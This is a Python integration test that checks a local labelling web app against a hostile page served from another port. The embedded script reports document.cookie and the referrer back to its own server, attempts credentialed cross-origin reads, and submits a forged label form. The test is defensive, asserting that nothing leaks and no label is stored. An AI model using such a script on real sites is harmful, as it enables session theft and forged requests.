"""Another server on this machine, to which a browser with our pages open is led, learns nothing and changes nothing."""

import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from visits import Kept, Visit

from equipment.page_server import Served

pytestmark = pytest.mark.integration

# Tells its own server all that a page can know, reads what it can reach, and sends a form as our own would be.
HOSTILE_PAGE = """<!doctype html><title>Other</title><body><script>
(async () => {
  const tell = (name, value) => fetch("/told/" + name, {method: "POST", body: String(value)});
  await tell("cookie", document.cookie);
  await tell("referrer", document.referrer);
  await tell("opener", window.opener ? "open" : "none");
  for (const path of ["/", "/done", "/label/0/0", "/static/label.js"]) {
    const answer = await fetch(TARGET + path, {credentials: "include"}).then((found) => found.text(), () => "refused");
    await tell("read", answer);
    await fetch(TARGET + path, {credentials: "include", mode: "no-cors"}).catch(() => null);
  }
  const fields = new URLSearchParams({label: "supported", key: "guess"});
  const request = {method: "POST", mode: "no-cors", credentials: "include", body: fields};
  await fetch(TARGET + "/label/0/0", request).catch(() => null);
  const form = document.createElement("form");
  Object.assign(form, {method: "post", action: TARGET + "/label/0/0"});
  form.append(Object.assign(document.createElement("input"), {name: "label", value: "supported"}));
  document.body.append(form);
  await tell("done", "yes");
  form.submit();
})();
</script>"""


@dataclass
class OtherServer:
    """Keeps every request whole: its line, its headers and its body."""

    port: int
    told: list[str] = field(default_factory=list)
    is_done: threading.Event = field(default_factory=threading.Event)


@pytest.fixture
def other(labelled: Served) -> Iterator[OtherServer]:
    page = HOSTILE_PAGE.replace("TARGET", f'"http://{labelled.host}"').encode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
            kept.told.append(f"{self.requestline}\n{self.headers}\n{body}")
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page)
            if "/told/done" in self.requestline:
                kept.is_done.set()

        do_POST = do_GET  # noqa: N815  # the name that the server looks for

        def log_message(self, *_words: object) -> None:
            """Nothing on the terminal."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        kept = OtherServer(server.server_address[1])
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield kept
        server.shutdown()


def test_a_server_on_another_port_gets_no_key_reads_no_record_and_stores_no_label(
    context, labelled: Served, kept: Kept, other: OtherServer
):
    before = kept.store.labels.all(kept.first)
    visit = Visit(context.new_page(), labelled)
    visit.go("/label")
    # By a link on the page, as a source's address would be, so that a referrer would be sent.
    visit.page.evaluate(f"location.href = 'http://127.0.0.1:{other.port}/'")
    visit.page.wait_for_url(f"http://{labelled.host}/label/0/0")
    assert other.is_done.wait(30)
    told = "\n".join(other.told)
    assert len(other.told) > 7
    assert labelled.keys.access not in told
    assert "cookie:" not in told.lower()
    assert "referer:" not in told.lower().replace(f"referer: http://127.0.0.1:{other.port}", "")
    assert told.count("\nrefused") == 4
    assert "Open these pages with the address" in visit.page.content()
    assert kept.store.labels.all(kept.first) == before
    assert context.cookies() == []
